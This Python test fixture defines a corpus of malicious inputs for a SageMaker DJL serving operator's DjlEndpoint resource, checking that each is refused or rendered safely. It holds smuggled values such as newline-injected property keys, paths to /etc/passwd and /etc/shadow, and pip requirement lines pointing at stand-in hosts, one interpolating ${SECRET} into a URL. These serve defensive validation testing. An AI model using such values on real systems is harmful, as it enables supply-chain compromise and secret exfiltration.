"""One hostile corpus for every string field of a DjlEndpoint, shared by:

* tests/integration/test_hostile_corpus.py: the real API server and the typed
  models agree on every case (both accept or both refuse, naming the field);
* tests/unit/test_hostile_corpus.py: what both accept is either Stalled by the
  operator (InvalidSpec / PolicyViolation) with zero AWS calls, or renders a
  serving.properties whose key set is exactly the intended one.

Each case mutates a valid manifest at one path. ``expect`` says who stops it:
``API`` (the API server and the typed models), ``INVALID`` (the operator,
reason InvalidSpec), ``POLICY`` (the operator under the default policy, reason
PolicyViolation) or ``OK`` (nobody: it must render safely).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

API, INVALID, POLICY, OK = "api", "InvalidSpec", "PolicyViolation", "ok"

ROLE = "arn:aws:iam::123456789012:role/SageMakerExecutionRole"
IMAGE = "763104351884.dkr.ecr.us-east-1.amazonaws.com/djl-inference:0.21.0-deepspeed0.8.3-cu117"

VALID: dict[str, Any] = {
    "apiVersion": "serving.djl-operator.io/v1alpha1",
    "kind": "DjlEndpoint",
    "metadata": {"name": "valid"},
    "spec": {
        "model": {"id": "facebook/bart-large", "task": "feature-extraction", "engine": "Python"},
        "instance": {"type": "ml.g5.12xlarge", "count": 1},
        "aws": {"region": "us-east-1", "executionRoleArn": ROLE, "artifactBucket": "my-artifacts"},
    },
}

# The characters the regex engines disagree on, and the ones that end a line somewhere.
SEPARATORS = {
    "LF": "\n",
    "CR": "\r",
    "VT": "\v",
    "FF": "\f",
    "NUL": "\x00",
    "FS": "\x1c",
    "DEL": "\x7f",
    "NEL": "\x85",
    "LS": "\u2028",
    "PS": "\u2029",
    "TAB": "\t",
    "NBSP": "\u00a0",
}
ARABIC_ONE = "\u0661"  # a Unicode digit: \d in some engines
FULLWIDTH_ONE = "\uff11"


@dataclass(frozen=True)
class Case:
    id: str
    path: str  # dotted path under the manifest; the last part is set to value
    value: Any
    expect: str
    field: str  # what the refusal must name (API server and operator)

    def manifest(self, name: str = "valid") -> dict[str, Any]:
        body = copy.deepcopy(VALID)
        body["metadata"]["name"] = name
        *parents, leaf = self.path.split(".")
        node = body
        for key in parents:
            node = node.setdefault(key, {})
        node[leaf] = self.value
        return body


def _field_cases(path: str, good: list[str], bad: list[str], *, field: str | None = None) -> list[Case]:
    name = path.split(".")[-1]
    cases = [Case(f"{name}-ok-{i}", path, v, OK, field or path) for i, v in enumerate(good)]
    cases += [Case(f"{name}-bad-{i}", path, v, API, field or path) for i, v in enumerate(bad)]
    return cases


def _separated(base: str, *, at_end: bool = False) -> list[str]:
    """``base`` with each separator inside (or at the end), plus a trailing newline."""
    half = len(base) // 2
    values = [base + ch if at_end else base[:half] + ch + base[half:] for ch in SEPARATORS.values()]
    return [*values, base + "\n"]


def _schedule(**fields: Any) -> dict[str, Any]:
    return {"name": "night", "schedule": "cron(0 22 ? * MON-FRI *)", "minInstances": 1, "maxInstances": 1, **fields}


def _scaling(**schedule: Any) -> dict[str, Any]:
    """A valid spec.autoscaling (instance.count 1 lies within it) with one schedule's fields replaced."""
    return {"maxInstances": 3, "invocationsPerInstance": 100, "schedules": [_schedule(**schedule)]}


def _snapshot_model(ref: dict[str, str]) -> dict[str, Any]:
    return {"id": "org/gated-model", "snapshot": True, "tokenSecretRef": {"name": "hf", "key": "token", **ref}}


CASES: list[Case] = [
    *_field_cases(
        "spec.model.id",
        ["facebook/bart-large", "s3://bucket/models/x/", "s3://bucket/...", "s3://bucket/..x/.cache/"],
        [
            *_separated("s3://bucket/weights-of-the-model"),
            "facebook/bart-large\n",
            "s3://bucket/../../secret/",
            "s3://bucket/a/../b/",
            "s3://bucket/./x",
            "s3://bucket/a//b",
            "s3://bucket//",
            "s3://bucket/a b",
            "s3://bucket/caf\u00e9",
            "../etc/passwd",
            "a" * 1025,
        ],
    ),
    *_field_cases(
        "spec.model.revision",
        ["main", "v1.0", "refs/pr/1", "0123456789abcdef0123456789abcdef01234567"],
        [
            "main\noption.trust_remote_code=true\nengine=MPI",
            *_separated("main", at_end=True),
            "../main",
            "a//b",
            "a/../b",
            f"v{ARABIC_ONE}",
            "r" * 129,
        ],
    ),
    *_field_cases("spec.model.dtype", ["fp16"], ["fp16\n", "fp16\v", "FP16", "fp16 "]),
    # The LLM fields: closed vocabularies and bounded integers. Valid values are still refused by
    # the operator on this feature-extraction manifest (they apply to LMI's handler only).
    *[
        Case(f"{leaf}-bad-{i}", f"spec.model.{leaf}", v, API, f"spec.model.{leaf}")
        for leaf, values in {
            "rollingBatch": ["vllm\n", "VLLM", "vllm ", "lmi-dist", f"vllm{ARABIC_ONE}", 1],
            "quantize": ["fp8\n", "FP8", "awq\u2028", "gptq"],
            "maxRollingBatchSize": [0, 4097],
            "maxModelLen": [0, 1048577],
        }.items()
        for i, v in enumerate(values)
    ],
    *[
        Case(f"{leaf}-off-llm-path", f"spec.model.{leaf}", v, INVALID, f"spec.model.{leaf}")
        for leaf, v in {"rollingBatch": "vllm", "quantize": "fp8", "maxRollingBatchSize": 8, "maxModelLen": 512}.items()
    ],
    *_field_cases(
        "spec.image.version",
        ["0.21.0"],
        ["0.21.0\n", f"0.2{ARABIC_ONE}.0", f"0.2{FULLWIDTH_ONE}", "0.21.0\v", "0.21.0-x"],
    ),
    *_field_cases(
        "spec.image.uri",
        [IMAGE],
        [IMAGE + "\n", IMAGE + "\v", IMAGE + "\x85", IMAGE + "\u2028", IMAGE + "\x00", "reg.io/a b:1", "x" * 300],
    ),
    *_field_cases(
        "spec.aws.region",
        ["us-east-1", "us-gov-west-1"],
        ["us-east-1\n", f"us-east-{ARABIC_ONE}", f"us-east-{FULLWIDTH_ONE}", "us-east-1\v", "us-east-1 "],
    ),
    *_field_cases(
        "spec.aws.executionRoleArn",
        [ROLE, "arn:aws:iam::123456789012:role/path/to/Role"],
        [
            ROLE + "\n",
            ROLE + "\x85",
            ROLE.replace("123456789012", ARABIC_ONE * 12),
            ROLE + " x",
            ROLE + "\u2028",
        ],
    ),
    *_field_cases("spec.aws.artifactBucket", ["my-artifacts"], ["my-artifacts\n", "my-artifacts\v", "My_Bucket"]),
    *_field_cases(
        "spec.aws.artifactPrefix",
        ["djl/prod"],
        ["djl\n", "djl\x85", "djl\u2028x", "djl x", "caf\u00e9"],
    ),
    *_field_cases("spec.aws.kmsKeyId", ["alias/my-key"], ["alias/k\n", "alias/k\v", "alias/k\x00"]),
    *_field_cases("spec.endpointName", ["my-endpoint"], ["my-endpoint\n", "my\x85endpoint", "my endpoint", "a" * 64]),
    # serving.properties values: one line, any printable text.
    *[
        Case(
            f"property-value-{name}",
            "spec.model.properties",
            {"option.x": f"a{ch}engine=MPI"},
            API,
            "spec.model.properties",
        )
        for name, ch in SEPARATORS.items()
        if name not in ("NBSP",)
    ],
    Case("property-value-trailing-newline", "spec.model.properties", {"option.x": "a\n"}, API, "spec.model.properties"),
    Case("property-value-too-long", "spec.model.properties", {"option.x": "v" * 4097}, API, "spec.model.properties"),
    *[
        Case(f"property-value-ok-{i}", "spec.model.properties", {"option.x": v}, OK, "spec.model.properties")
        for i, v in enumerate(
            [
                "a=b:c#!d",
                "\\",
                "\\\\n",
                " leading",
                "#comment",
                "!bang",
                "=eq",
                "caf\u00e9 \U0001f600",
                "\\u0041",
                "x\u00a0y",
                "",
            ]
        )
    ],
    # serving.properties keys (the API server checks them with CEL).
    *[
        Case(f"property-key-{i}", "spec.model.properties", {key: "v"}, API, "spec.model.properties")
        for i, key in enumerate(
            [
                "k\n",
                "k\v",
                "k\x85",
                "k\u2028",
                "k k",
                "k=v",
                "k:v",
                "#k",
                "!k",
                "",
                "caf\u00e9",
                "k" * 129,
                f"k{ARABIC_ONE}",
                ".k",
            ]
        )
    ],
    Case(
        "properties-too-many", "spec.model.properties", {f"k{i}": "v" for i in range(65)}, API, "spec.model.properties"
    ),
    Case(
        "properties-too-large",
        "spec.model.properties",
        {f"k{i}": "v" * 4000 for i in range(5)},
        API,
        "spec.model.properties",
    ),
    # Keys DJL's handler reads without the option. prefix, and trust_remote_code.
    Case(
        "unprefixed-owned-key",
        "spec.model.properties",
        {"tensor_parallel_degree": "8"},
        INVALID,
        "spec.model.properties[tensor_parallel_degree]",
    ),
    Case(
        "unprefixed-task", "spec.model.properties", {"task": "text-generation"}, INVALID, "spec.model.properties[task]"
    ),
    Case(
        "both-spellings",
        "spec.model.properties",
        {"option.pooling": "mean", "pooling": "cls"},
        INVALID,
        "spec.model.properties[pooling]",
    ),
    Case(
        "trust-remote-code",
        "spec.model.properties",
        {"option.trust_remote_code": "true"},
        POLICY,
        "spec.model.properties[option.trust_remote_code]",
    ),
    Case(
        "trust-remote-code-unprefixed",
        "spec.model.properties",
        {"trust_remote_code": "TRUE"},
        POLICY,
        "spec.model.properties[trust_remote_code]",
    ),
    Case(
        "trust-remote-code-false",
        "spec.model.properties",
        {"option.trust_remote_code": "false"},
        OK,
        "spec.model.properties",
    ),
    Case(
        "foreign-entry-point",
        "spec.model.properties",
        {"option.entryPoint": "/etc/passwd"},
        INVALID,
        "spec.model.properties[option.entryPoint]",
    ),
    # requirements: the API server checks the characters, the operator the meaning.
    *[
        Case(f"requirement-bad-{i}", "spec.model.requirements", [value], API, "spec.model.requirements[0]")
        for i, value in enumerate(
            [
                "numpy\n--index-url http://evil.invalid",
                "numpy\u2028--index-url http://evil.invalid",
                "numpy\x85x",
                "numpy\vx",
                "numpy\fx",
                "numpy # comment",
                "numpy \\",
                "x @ https://e.invalid/${SECRET}",
                "",
                "caf\u00e9",
                "n" * 257,
            ]
        )
    ],
    Case(
        "requirements-too-many", "spec.model.requirements", [f"p{i}" for i in range(65)], API, "spec.model.requirements"
    ),
    *[
        Case(
            f"requirement-invalid-{i}",
            "spec.model.requirements",
            ["einops", value],
            INVALID,
            "spec.model.requirements[1]",
        )
        for i, value in enumerate(
            [
                "-e git+https://example.invalid/x.git",
                "-r /etc/shadow",
                "--trusted-host evil.invalid",
                "file:///etc/passwd",
                "x @ file:///etc/passwd",
                "numpy --hash=sha256:abc",
                "--index-url=http://e.invalid",
                "./local",
            ]
        )
    ],
    *[
        Case(f"requirement-policy-{i}", "spec.model.requirements", [value], POLICY, "spec.model.requirements[0]")
        for i, value in enumerate(
            [
                "--index-url http://evil.invalid/simple",
                "--extra-index-url https://evil.invalid/simple",
                "x @ https://evil.invalid/x-1.0-py3-none-any.whl",
            ]
        )
    ],
    Case(
        "requirement-ok",
        "spec.model.requirements",
        ["einops>=0.8; python_version >= '3.8'"],
        OK,
        "spec.model.requirements",
    ),
    # tags
    *[
        Case(f"tag-bad-{i}", "spec.aws.tags", tags, API, "spec.aws.tags")
        for i, tags in enumerate(
            [
                {"team": "a\n"},
                {"team\n": "a"},
                {"team": "caf\u00e9"},
                {"aws:x": "a"},
                {"djl-operator.io/owner-uid": "someone-else"},
                {"k" * 129: "v"},
                {"team": "v" * 257},
                {f"t{i}": "v" for i in range(41)},
                {"": "v"},
            ]
        )
    ],
    Case("tag-ok", "spec.aws.tags", {"team": "ml", "cost-center": "1234"}, OK, "spec.aws.tags"),
    # autoscaling: the schedule strings, and the rules the CRD says in CEL and the models in validators.
    *[
        Case(f"schedule-ok-{i}", "spec.autoscaling", _scaling(schedule=value), OK, "spec.autoscaling")
        for i, value in enumerate(
            ["cron(0 22 ? * MON-FRI *)", "cron(30 6 1 * ? *)", "at(2026-12-01T08:00:00)", "rate(5 minutes)"]
        )
    ],
    *[
        Case(
            f"schedule-bad-{i}",
            "spec.autoscaling",
            _scaling(schedule=value),
            API,
            "spec.autoscaling.schedules[0].schedule",
        )
        for i, value in enumerate(
            [
                "cron(0 22 * * MON-FRI *)",  # neither day field is '?'
                "cron(0 22 ? * MON-FRI)",  # five fields
                "at(2026-13-01T08:00:00)",
                "at(2026-12-01 08:00:00)",
                "rate(0 minutes)",
                "rate(5 weeks)",
                "rate(5 minutes)\n",
                "rate(5\vminutes)",
                "cron(0 22 ? * MON-FRI *)\x85",
                "every day",
            ]
        )
    ],
    Case(
        "schedule-no-such-day",
        "spec.autoscaling",
        _scaling(schedule="at(2026-02-30T08:00:00)"),
        INVALID,
        "spec.autoscaling.schedules[0].schedule",
    ),
    *[
        Case(
            f"schedule-name-bad-{i}",
            "spec.autoscaling",
            _scaling(name=value),
            API,
            "spec.autoscaling.schedules[0].name",
        )
        for i, value in enumerate(["Night", "night\n", "night-", "n" * 41])
    ],
    *[
        Case(
            f"timezone-bad-{i}",
            "spec.autoscaling",
            _scaling(timezone=value),
            API,
            "spec.autoscaling.schedules[0].timezone",
        )
        for i, value in enumerate(["Europe/Berlin\n", "Europe Berlin", "Europe/Berlin\u2028"])
    ],
    Case(  # the pattern lets it through; no such zone: the operator stalls it
        "timezone-no-such-zone",
        "spec.autoscaling",
        _scaling(timezone="Europe/Berln"),
        INVALID,
        "spec.autoscaling.schedules[0].timezone",
    ),
    Case(
        "timezone-ok", "spec.autoscaling", _scaling(timezone="America/Argentina/Buenos_Aires"), OK, "spec.autoscaling"
    ),
    Case(
        "scaling-min-over-max",
        "spec.autoscaling",
        {"minInstances": 3, "maxInstances": 2, "invocationsPerInstance": 5},
        API,
        "spec.autoscaling",
    ),
    Case("scaling-no-target", "spec.autoscaling", {"maxInstances": 2}, API, "spec.autoscaling"),
    Case(
        "scaling-two-targets",
        "spec.autoscaling",
        {"maxInstances": 2, "invocationsPerInstance": 5, "concurrentRequestsPerModel": 4},
        API,
        "spec.autoscaling",
    ),
    Case(
        "schedule-without-bounds",
        "spec.autoscaling",
        {"maxInstances": 2, "invocationsPerInstance": 5, "schedules": [{"name": "a", "schedule": "rate(1 hour)"}]},
        API,
        "spec.autoscaling.schedules[0]",
    ),
    Case(
        "schedule-min-over-max",
        "spec.autoscaling",
        _scaling(minInstances=3, maxInstances=2),
        API,
        "spec.autoscaling.schedules[0]",
    ),
    Case(
        "schedule-names-repeat",
        "spec.autoscaling",
        {"maxInstances": 2, "invocationsPerInstance": 5, "schedules": [_schedule(), _schedule()]},
        API,
        "spec.autoscaling",
    ),
    Case(
        "count-below-autoscaling",
        "spec.autoscaling",
        {"minInstances": 2, "maxInstances": 3, "invocationsPerInstance": 5},
        API,
        "spec",
    ),
    # spec.rollout: CloudWatch alarm names, and the combinations SageMaker refuses (CEL and the typed models).
    *[
        Case(f"alarm-{i}", "spec.rollout.rollbackAlarms", [value], expect, "spec.rollout.rollbackAlarms")
        for i, (value, expect) in enumerate(
            [("ep-5xx", OK), ("My alarm (p99 > 2s)", OK), ("", API), ("   ", API), ("a" * 256, API)]
            + [(f"alarm{ch}x", API) for ch in ("\n", "\r", "\x00", "\x85", "\u2028", "\u00a0")]
        )
    ],
    Case("alarms-too-many", "spec.rollout.rollbackAlarms", [f"a{i}" for i in range(11)], API, "spec.rollout"),
    *[
        Case(f"rollout-{i}", "spec.rollout", value, expect, "spec.rollout")
        for i, (value, expect) in enumerate(
            [
                ({"strategy": "Canary", "canaryPercent": 10, "waitIntervalSeconds": 60, "rollbackAlarms": ["a"]}, OK),
                ({"strategy": "Linear", "linearStepPercent": 25, "terminationWaitSeconds": 30}, OK),
                ({"strategy": "Rolling", "rollingBatchPercent": 25, "rollbackBatchPercent": 50}, OK),
                ({"canaryPercent": 10}, API),
                ({"strategy": "Linear", "linearStepPercent": 20, "canaryPercent": 10}, API),
                ({"strategy": "Canary"}, API),
                ({"strategy": "Linear"}, API),
                ({"strategy": "Rolling"}, API),
                ({"strategy": "Canary", "canaryPercent": 60}, API),
                ({"strategy": "Linear", "linearStepPercent": 5}, API),
                ({"strategy": "Rolling", "rollingBatchPercent": 60}, API),
                ({"strategy": "Canary", "canaryPercent": 10, "rollbackBatchPercent": 50}, API),
                ({"strategy": "Rolling", "rollingBatchPercent": 10, "terminationWaitSeconds": 10}, API),
                (
                    {"waitIntervalSeconds": 600, "terminationWaitSeconds": 100, "maximumExecutionTimeoutSeconds": 700},
                    API,
                ),
                ({"waitIntervalSeconds": 60, "maximumExecutionTimeoutSeconds": 600}, OK),
                ({"strategy": "BlueGreen"}, API),
            ]
        )
    ],
    # The operator policy's other rules.
    Case("image-outside-registries", "spec.image", {"uri": "evil.example.com/djl:latest"}, POLICY, "spec.image.uri"),
    Case("instance-count-over-policy", "spec.instance.count", 11, POLICY, "spec.instance.count"),
    Case("revision-on-s3", "spec.model", {"id": "s3://bucket/w/", "revision": "main"}, INVALID, "spec.model.revision"),
    # spec.model.snapshot and its token Secret (a Secret name is a DNS subdomain; a key, IsConfigMapKey).
    *[
        Case(f"secret-{part}-{expect}-{i}", "spec.model", _snapshot_model({part: value}), expect, f"{field}.{part}")
        for field in ("spec.model.tokenSecretRef",)
        for part, expect, values in (
            ("name", OK, ["hf-token", "team.hf-1"]),
            ("name", API, ["HF", "hf_token", "-hf", "hf\n", "hf.", "h" * 254, ""]),
            ("key", OK, ["token", "HF_TOKEN", ".hf-token_1"]),
            ("key", API, ["a/b", "tok en", "token\n", "k\x00", ""]),
        )
        for i, value in enumerate(values)
    ],
    Case("snapshot-of-s3", "spec.model", {"id": "s3://bucket/w/", "snapshot": True}, API, "spec.model"),
    Case("token-without-snapshot", "spec.model", {"id": "org/m", "tokenSecretRef": {"name": "hf"}}, API, "spec.model"),
    # spec.model.networkIsolation: only where the weights come from S3 and nothing is pip-installed.
    Case(
        "isolated-snapshot", "spec.model", {"id": "org/m", "snapshot": True, "networkIsolation": True}, OK, "spec.model"
    ),
    Case("isolated-hub", "spec.model", {"id": "org/m", "networkIsolation": True}, API, "spec.model"),
    Case("isolated-s3", "spec.model", {"id": "s3://bkt/w/", "networkIsolation": True}, API, "spec.model"),
    Case(
        "isolated-pip",
        "spec.model",
        {"id": "org/m", "snapshot": True, "networkIsolation": True, "requirements": ["numpy"]},
        API,
        "spec.model",
    ),
]


def by_expectation(*expected: str) -> list[Case]:
    return [c for c in CASES if c.expect in expected]
